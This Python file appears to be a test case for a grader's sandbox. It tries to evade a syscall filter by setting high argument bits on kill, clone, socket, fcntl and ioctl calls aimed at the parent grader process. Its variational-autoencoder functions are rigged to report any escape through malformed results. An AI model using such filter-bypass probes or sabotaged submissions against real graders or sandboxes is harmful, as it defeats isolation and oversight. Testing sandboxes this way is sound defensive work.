"""Hides what it asks for in argument bits that either the filter or the kernel ignores."""
# expects: full

import ctypes
import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


libc = ctypes.CDLL(None, use_errno=True)
F_SETOWN, FIOSETOWN = 8, 0x8901
CALLS = {
    "x86_64": {"kill": 62, "socket": 41, "clone": 56, "fcntl": 72, "ioctl": 16, "socketpair": 53},
    "aarch64": {"kill": 129, "socket": 198, "clone": 220, "fcntl": 25, "ioctl": 29, "socketpair": 199},
}[os.uname().machine]


def attack():
    high, grader = 1 << 32, os.getppid()
    owner, pair = ctypes.c_int(grader), (ctypes.c_int * 2)()
    if os.getuid() == 0:
        return  # a worker never is; nobody else is to be harmed
    for name, *arguments in (
        ("kill", high | grader, 0),
        ("kill", grader - high, 0),
        ("socket", high | 2, 1, 0),
        ("clone", high | 17, 0, 0, 0, 0),
        ("fcntl", 1, high | F_SETOWN, grader),
        ("ioctl", 1, high | FIOSETOWN, ctypes.addressof(owner)),
        ("socketpair", 1, high | 2, 0, ctypes.addressof(pair)),
    ):
        result = libc.syscall(*map(ctypes.c_long, (CALLS[name], *arguments)))
        if result == 0 and name == "clone":
            os._exit(0)
        if result >= 0:
            publish(f"ESCAPED {name}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
